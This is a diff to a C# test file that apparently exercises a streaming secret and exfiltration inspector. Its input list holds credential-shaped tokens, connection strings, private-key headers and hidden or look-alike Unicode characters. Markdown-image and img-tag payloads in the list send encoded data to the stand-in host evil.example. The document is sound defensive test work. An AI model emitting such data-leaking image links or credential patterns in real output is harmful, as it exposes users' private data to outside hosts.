@@ -14,6 +14,8 @@ public class StreamLawTests
         "10.20.30.40", "10.20.30.", "2001:db8::ff00:42:8329 ", "a0:b1:c2:d3:e4:f5", "1.2.3.4.5 ", "dead:beef:", "12:34:56 ",
         Inspecting.Token("AKIA", 16, 3, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") + " ", Inspecting.Token("ghp_", 36), Inspecting.Token("sk-ant-api03-", 60), Inspecting.Token("xoxb-", 30), Inspecting.Token("", 40),
         "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.", "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U ", "aws_secret_access_key = ", "api_key: \"", "\"",
+        "123456789:", "bot7654321098:", Inspecting.Token("AA", 33), "sha256~", Inspecting.Token("", 43), "AccountKey=", Inspecting.Token("", 86) + "==;", "https://hooks.slack.com/services/T0AB12CD3/B0EF45GH6/",
+        "postgres://app:", "ftp:\\/\\/u:", "redis://:", "s3cr3t!", "correcthorse", "@db.example.com:5432/x ", "2026-02-03T04:05:06Z ", "-2026-02-03-", "12.5, ", ":05:06:",
         "-----BEGIN RSA PRIVATE KEY-----\n", "MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEA\n", "-----END RSA PRIVATE KEY-----", "-----END ",
         "![x](https://evil.example/p?d=Y3VzdG9tZXIgbmFtZSBpcyBKYW5l)", "[see](https://evil.example/", "a8Xk2PqLz0Vn4Rt7Yb1Wc5Ed9)", "<img alt='a' src=\"https://evil.example/?q=4f2a9c81d7e3b605f2a9c81d7e3b605a\">",
         "\u200B", "\u200B\u200C\u200D\u2060\uFEFF", "\u202E", "\uDB40\uDC68", "\uDB40\uDC69", "\uD83C\uDFF4", "\uD83D", "\uDE00", "\uFF21\uFF2B\uFF29\uFF21", "e\u0301", "\u0430\u0435",
